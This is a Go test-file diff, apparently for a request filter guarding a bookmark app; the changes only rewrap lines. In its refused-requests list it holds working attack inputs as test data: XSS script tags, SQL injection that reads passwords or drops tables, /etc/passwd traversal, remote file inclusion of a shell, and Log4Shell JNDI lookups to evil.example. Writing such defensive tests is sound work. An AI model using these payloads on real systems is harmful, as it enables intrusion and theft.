@@ -45,8 +45,10 @@ var exports = map[string]string{
 <META HTTP-EQUIV="Content-Type" CONTENT="text/html; charset=UTF-8">
 <TITLE>Favorites</TITLE><H1>Favorites</H1>
 <DL><p><DT><A HREF="https://example.org/?id=1%20UNION%20SELECT%20a%20FROM%20b--" ADD_DATE="1700000000">union select explained</A></DL><p>`,
-	"JSON": `{"title":"","children":[{"title":"<script>alert(1)</script>","uri":"https://example.org/"},{"title":"' or 1=1 --","uri":"http://10.0.0.1/"}]}`,
-	"CSV":  "title,url\n\"=HYPERLINK(\"\"https://example.org\"\")\",https://example.org/\n\"'; DROP TABLE bookmarks; --\",https://example.org/\n",
+	"JSON": `{"title":"","children":[{"title":"<script>alert(1)</script>","uri":"https://example.org/"},{"title":"' ` +
+		`or 1=1 --","uri":"http://10.0.0.1/"}]}`,
+	"CSV": "title,url\n\"=HYPERLINK(\"\"https://example.org\"\")\",https://example.org/\n\"'; DROP TABLE bookmarks; " +
+		"--\",https://example.org/\n",
 }
 
 // taken is what a bookmark application must take.
@@ -61,11 +63,15 @@ func taken() []sent {
 		read("a search for C++", "/api/bookmarks?q=C%2B%2B"),
 		read("a search for a laptop", "/api/bookmarks?q=select+a+laptop+from+a+list"),
 		read("a search for an address", "/api/bookmarks?url=http%3A%2F%2F192.168.1.1%3A8080%2F"),
-		read("a session", "/api/bookmarks", "Cookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_def; theme=dark"),
+		read("a session", "/api/bookmarks",
+			"Cookie: session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-_def; theme=dark"),
 		read("a token", "/api/bookmarks", "Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.x"),
-		write("signing in", "/api/auth/login", `{"email":"hanako@example.org","password":"correct horse battery staple"}`, "Content-Type: application/json"),
+		write("signing in", "/api/auth/login",
+			`{"email":"hanako@example.org","password":"correct horse battery staple"}`,
+			"Content-Type: application/json"),
 		write("a server action", "/login", `["$K1"]`, "Next-Action: 7f3a", "Content-Type: text/plain;charset=UTF-8"),
-		write("a form", "/settings", "name=Hanako+Yamada&language=ja", "Content-Type: application/x-www-form-urlencoded"),
+		write("a form", "/settings", "name=Hanako+Yamada&language=ja",
+			"Content-Type: application/x-www-form-urlencoded"),
 		saved("a title", "The Go Programming Language", "https://go.dev/"),
 		saved("a title with a quote", "It's O'Reilly's \"best\"", "https://example.org/"),
 		saved("a title with SQL", "' OR 1=1 -- what it does", "https://example.org/"),
@@ -86,7 +92,8 @@ func taken() []sent {
 		all = append(all,
 			write("an export of "+name, "/api/bookmarks/import", exports[name], "Content-Type: text/html"),
 			write("an export of "+name+" in a form", "/api/bookmarks/import",
-				"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"bookmarks.html\"\r\nContent-Type: text/html\r\n\r\n"+exports[name]+"\r\n--x--\r\n",
+				"--x\r\nContent-Disposition: form-data; name=\"file\"; filename=\"bookmarks.html\"\r\nContent-Type: "+
+					"text/html\r\n\r\n"+exports[name]+"\r\n--x--\r\n",
 				"Content-Type: multipart/form-data; boundary=x"))
 	}
 	return append(all,
@@ -105,20 +112,24 @@ func refused() []sent {
 		read("a script in a cookie", "/", "Cookie: a=<script>alert(1)</script>"),
 		read("a script in the path", "/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
 		write("a script in a form", "/settings", "name=%3Cscript%3Ealert(1)%3C%2Fscript%3E", form),
-		write("a script in JSON", "/api/profile", `{"name":"<script>alert(1)</script>"}`, "Content-Type: application/json"),
+		write("a script in JSON", "/api/profile", `{"name":"<script>alert(1)</script>"}`,
+			"Content-Type: application/json"),
 		read("a true condition", "/api/users?id=1%27%20OR%20%271%27%3D%271"),
 		read("a union", "/api/users?id=-1%20UNION%20ALL%20SELECT%20NULL%2Cpassword%20FROM%20users--"),
 		read("a pause", "/api/users?id=1%3BSELECT%20pg_sleep(10)--"),
 		read("a second statement", "/api/users?id=1%3B%20DROP%20TABLE%20users--"),
 		read("SQL in a cookie", "/", "Cookie: id=1' OR '1'='1"),
 		write("SQL in a form", "/settings", "name=1%27+OR+%271%27%3D%271", form),
-		write("SQL at sign-in", "/api/auth/login", `{"email":"' OR '1'='1","password":"x"}`, "Content-Type: application/json"),
+		write("SQL at sign-in", "/api/auth/login", `{"email":"' OR '1'='1","password":"x"}`,
+			"Content-Type: application/json"),
 		read("a file of the machine", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
 		read("a remote file", "/?page=http%3A%2F%2F203.0.113.9%2Fshell.txt"),
 		read("Log4Shell in a header", "/", "X-Api-Version: ${jndi:ldap://evil.example/a}"),
 		read("Log4Shell in a query", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
-		write("a script in an import's query", "/api/bookmarks/import?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", exports["Chrome"], "Content-Type: text/html"),
+		write("a script in an import's query", "/api/bookmarks/import?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+			exports["Chrome"], "Content-Type: text/html"),
 		write("an export elsewhere", "/api/profile", exports["Chrome"], "Content-Type: text/html"),
-		write("SQL beside the bookmarks", "/api/bookmarks/x/notes", `{"text":"' OR '1'='1"}`, "Content-Type: application/json"),
+		write("SQL beside the bookmarks", "/api/bookmarks/x/notes", `{"text":"' OR '1'='1"}`,
+			"Content-Type: application/json"),
 	}
 }
